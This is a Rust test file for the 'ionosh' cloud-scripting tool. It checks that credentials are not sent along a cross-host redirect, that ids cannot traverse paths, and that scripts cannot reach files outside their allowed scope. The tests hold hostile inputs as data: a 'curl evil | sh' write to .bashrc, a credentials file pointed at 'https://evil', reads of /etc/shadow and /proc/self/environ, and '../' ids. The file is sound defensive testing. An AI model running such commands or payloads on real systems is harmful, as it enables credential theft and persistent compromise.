//! What an attacker would try first: an API that redirects the client to another host (the
//! credentials must not follow), ids that would leave their path segment (`x/../..`), and a
//! shared script that reads or writes files it has no business with.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};

use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::IntoResponse;
use axum::Router;
use ionosh::client::{Cancel, Client, ClientConfig, ClientGrant, Credentials, RetryPolicy};
use ionosh::provider::{ionos::IONOS, netfoundry::NETFOUNDRY};

/// What the other host saw: the `Authorization` header of every request it got.
type Seen = Arc<Mutex<Vec<String>>>;

/// Serves `app` on a free loopback port; answers its port.
async fn serve(app: Router) -> u16 {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let port = listener.local_addr().expect("address").port();
    tokio::spawn(async move { axum::serve(listener, app).await });
    port
}

/// The other host (`localhost`, another origin than `127.0.0.1`): it redirects once more to
/// itself, as the attack does (a same-host hop keeps the header), and records what arrives.
async fn other_host(seen: Seen) -> u16 {
    let app = Router::new().fallback(|State(seen): State<Seen>, headers: HeaderMap, uri: axum::http::Uri| async move {
        let authorization = headers.get("authorization").map(|v| v.to_str().unwrap_or("?").to_string());
        seen.lock().expect("lock").push(authorization.unwrap_or_default());
        if uri.path() == "/hop" {
            (StatusCode::TEMPORARY_REDIRECT, [("location", "/final")]).into_response()
        } else {
            (StatusCode::OK, "{}").into_response()
        }
    });
    serve(app.with_state(seen)).await
}

/// The API: every request is redirected to the other host.
async fn redirecting_api(to: u16) -> u16 {
    let target = format!("http://localhost:{to}/hop");
    let app = Router::new().fallback(move || {
        let target = target.clone();
        async move { (StatusCode::TEMPORARY_REDIRECT, [("location", target)]).into_response() }
    });
    serve(app).await
}

fn client(api: u16, credentials: Credentials, provider: &ionosh::provider::Provider) -> Client {
    let config = ClientConfig {
        api_url: format!("http://127.0.0.1:{api}/cloudapi/v6"),
        credentials,
        headers: Vec::new(),
        trace: false,
        retry: RetryPolicy { max_attempts: 1, ..RetryPolicy::default() },
        max_answer: Default::default(),
    };
    Client::new(config, provider.dialect, Cancel::default()).expect("client")
}

#[test]
fn credentials_never_follow_a_redirect_to_another_host() {
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    runtime.block_on(async {
        let seen: Seen = Arc::default();
        let api = redirecting_api(other_host(seen.clone()).await).await;
        let basic = Credentials::Basic { user: "me@example.com".into(), password: "hunter2".into() };
        let bearer = Credentials::Token("secret-token".into());
        let grant = Credentials::OAuth(ClientGrant {
            client_id: "client".into(),
            secret: "client-secret".into(),
            token_url: format!("http://127.0.0.1:{api}/oauth2/token"),
            scope: None,
            cache: None,
            start: None,
            timeout: ionosh::client::LOGIN_TIMEOUT,
        });
        for (credentials, provider) in [(basic, &IONOS), (bearer, &IONOS), (grant, &NETFOUNDRY)] {
            let error =
                client(api, credentials, provider).get("/datacenters", &[]).await.expect_err("a redirect is an error");
            let message = error.to_string();
            assert!(message.contains("redirect"), "{message}");
            assert!(!message.contains("hunter2") && !message.contains("client-secret"), "{message}");
        }
        assert!(seen.lock().expect("lock").is_empty(), "the other host was reached: {:?}", seen.lock());
    });
}

#[test]
fn an_id_never_leaves_its_path_segment() {
    let world = crate::world::World::start(0);
    let user = world.json(
        r#"let u = create_user(User(#{ firstname: "Ann", lastname: "Lee", email: "ann@example.com", password: "secretpass1" }));
           wait_for_completion(u);
           u"#,
    );
    let id = user["id"].as_str().expect("user id");
    let error =
        world.eval(&format!(r#"delete_datacenter("x/../../um/users/{id}")"#)).expect_err("no data center has that id");
    assert!(error.contains("404"), "{error}");
    let still = world.json(&format!(r#"get_user("{id}")"#));
    assert_eq!(still["id"], id, "the user was not deleted");
    for (id, shown) in [("..", "\"..\""), (".", "\".\""), ("a\nb", "\"a\\nb\"")] {
        let script = format!("delete_datacenter({})", serde_json::to_string(id).expect("text"));
        let error = world.eval(&script).expect_err("refused");
        assert!(error.contains("'datacenter_id' cannot be an id"), "{error}");
        assert!(error.contains(shown), "{error} names {shown}");
    }
}

/// Runs `ionosh run --sim-ephemeral FLAGS script.rhai` from `cwd` with `home` as HOME (the
/// script written at `script`), and answers its exit code, stdout and stderr.
fn run(cwd: &Path, home: &Path, script: &Path, text: &str, flags: &[&str]) -> (i32, String, String) {
    std::fs::write(script, text).expect("script");
    let out = Command::new(env!("CARGO_BIN_EXE_ionosh"))
        .arg("run")
        .arg("--sim-ephemeral")
        .args(flags)
        .arg(script)
        .current_dir(cwd)
        .env("HOME", home)
        .env("XDG_DATA_HOME", home.join(".local/share"))
        .env("XDG_STATE_HOME", home.join(".local/state"))
        .env("XDG_CACHE_HOME", home.join(".cache"))
        .env("XDG_CONFIG_HOME", home.join(".config"))
        .env_remove("IONOS_CONFIG_FILE")
        .env_remove("NETFOUNDRY_API_ACCOUNT")
        .output()
        .expect("ionosh runs");
    let text = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
    (out.status.code().unwrap_or(-1), text(&out.stdout), text(&out.stderr))
}

/// A place to work: `work/` holds the script and is the current directory, `home/` is HOME
/// (with an IONOS config and a shell start-up file), `outside/` is neither.
struct Place {
    dir: tempfile::TempDir,
}

impl Place {
    fn new() -> Place {
        let dir = tempfile::tempdir().expect("temp dir");
        for sub in ["work", "home/.ionos", "outside"] {
            std::fs::create_dir_all(dir.path().join(sub)).expect("dir");
        }
        std::fs::write(dir.path().join("home/.ionos/config"), "currentProfile: user\n").expect("config");
        std::fs::write(dir.path().join("home/.bashrc"), "# mine\n").expect("bashrc");
        std::fs::write(dir.path().join("outside/data.txt"), "outside data").expect("data");
        Place { dir }
    }

    fn path(&self, sub: &str) -> PathBuf {
        std::fs::canonicalize(self.dir.path()).expect("real path").join(sub)
    }

    /// Runs `text` as `work/s.rhai` from `work/`.
    fn run(&self, text: &str, flags: &[&str]) -> (i32, String, String) {
        run(&self.path("work"), &self.path("home"), &self.path("work/s.rhai"), text, flags)
    }
}

#[test]
fn a_script_reaches_only_files_under_its_directory_and_the_current_one() {
    let place = Place::new();
    let (code, out, err) = place.run(r#"write_file("token.jwt", "t"); print(read_file("token.jwt"));"#, &[]);
    assert_eq!((code, out.trim()), (0, "t"), "{err}");
    let outside = place.path("outside/data.txt").display().to_string();
    for text in [
        format!("read_file({outside:?})"),
        r#"read_file("../outside/data.txt")"#.to_string(),
        r#"read_file("/proc/self/environ")"#.to_string(),
    ] {
        let (code, _, err) = place.run(&text, &[]);
        assert_eq!(code, 1, "{text} was refused");
        assert!(err.contains("--allow-read"), "{text}: {err}");
    }
    let (_, _, err) = place.run(r#"read_file("/proc/self/environ")"#, &["--allow-all-files"]);
    assert!(err.contains("is in /proc"), "even with --allow-all-files: {err}");
    let (code, out, err) = place.run(&format!("print(read_file({outside:?}))"), &["--allow-read", &outside]);
    assert_eq!((code, out.trim()), (0, "outside data"), "{err}");
    let (code, _, err) = place.run(&format!(r#"write_file({outside:?}, "x")"#), &["--allow-read", &outside]);
    assert_eq!(code, 1, "reading allowed is not writing allowed: {err}");
}

#[cfg(unix)]
#[test]
fn a_symlink_does_not_lead_a_write_out() {
    let place = Place::new();
    std::os::unix::fs::symlink(place.path("outside/data.txt"), place.path("work/innocent.txt")).expect("link");
    std::os::unix::fs::symlink(place.path("home/.bashrc"), place.path("work/rc")).expect("link");
    for name in ["innocent.txt", "rc"] {
        let (code, _, err) = place.run(&format!(r#"write_file("{name}", "owned")"#), &[]);
        assert_eq!(code, 1, "{err}");
    }
    assert_eq!(std::fs::read_to_string(place.path("outside/data.txt")).expect("data"), "outside data");
    assert_eq!(std::fs::read_to_string(place.path("home/.bashrc")).expect("rc"), "# mine\n");
}

#[test]
fn credentials_settings_and_dot_files_need_an_allow_naming_them() {
    let place = Place::new();
    let config = place.path("home/.ionos/config").display().to_string();
    let rc = place.path("home/.bashrc").display().to_string();
    let (code, _, err) = place.run(&format!("read_file({config:?})"), &["--allow-all-files"]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("credentials or settings"), "{err}");
    let (code, _, err) = place.run(&format!(r#"write_file({rc:?}, "curl evil | sh")"#), &["--allow-all-files"]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("dot-file of the home directory"), "{err}");
    let home = place.path("home").display().to_string();
    let (code, _, _) = place.run(&format!("read_file({config:?})"), &["--allow-read", &home]);
    assert_eq!(code, 1, "an allow of the whole home does not name the config");
    let (code, out, err) = place.run(&format!("print(read_file({config:?}))"), &["--allow-read", &config]);
    assert_eq!((code, out.trim()), (0, "currentProfile: user"), "{err}");
    // Working in the home directory does not open its dot-files, nor a credentials.json.
    std::fs::write(place.path("home/credentials.json"), "{}").expect("credentials");
    let script = place.path("home/s.rhai");
    let (code, _, err) = run(&place.path("home"), &place.path("home"), &script, r#"write_file(".profile", "x")"#, &[]);
    assert_eq!(code, 1, "{err}");
    let text = r#"write_file("credentials.json", "{\"authenticationUrl\": \"https://evil\"}")"#;
    let (code, _, err) = run(&place.path("home"), &place.path("home"), &script, text, &[]);
    assert_eq!(code, 1, "{err}");
    assert_eq!(std::fs::read_to_string(place.path("home/credentials.json")).expect("kept"), "{}");
    let (code, _, err) = run(&place.path("home"), &place.path("home"), &script, r#"write_file("notes.txt", "x")"#, &[]);
    assert_eq!(code, 0, "{err}");
}

#[test]
fn check_lists_the_files_a_script_and_its_recipes_touch() {
    let place = Place::new();
    std::fs::write(place.path("work/recipe.rhai"), "fn steal() { read_file(\"/etc/shadow\") }\n").expect("recipe");
    let script = "import \"recipe\" as r;\nwrite_file(\"out.txt\", \"x\");\nlet p = ARGS.path;\nread_file(p);\n";
    std::fs::write(place.path("work/s.rhai"), script).expect("script");
    let out = Command::new(env!("CARGO_BIN_EXE_ionosh"))
        .args(["check", "s.rhai"])
        .current_dir(place.path("work"))
        .env("HOME", place.path("home"))
        .output()
        .expect("ionosh runs");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let recipe = "./recipe.rhai";
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines[0], "s.rhai:2:1: writes \"out.txt\": allowed", "{stdout}");
    assert_eq!(lines[1], "s.rhai:4:1: reads a file named when it runs (checked then)", "{stdout}");
    assert!(lines[2].starts_with(&format!("{recipe}:1:14: reads \"/etc/shadow\": refused:")), "{stdout}");
    assert!(lines[2].contains("--allow-read /etc/shadow"), "{stdout}");
}
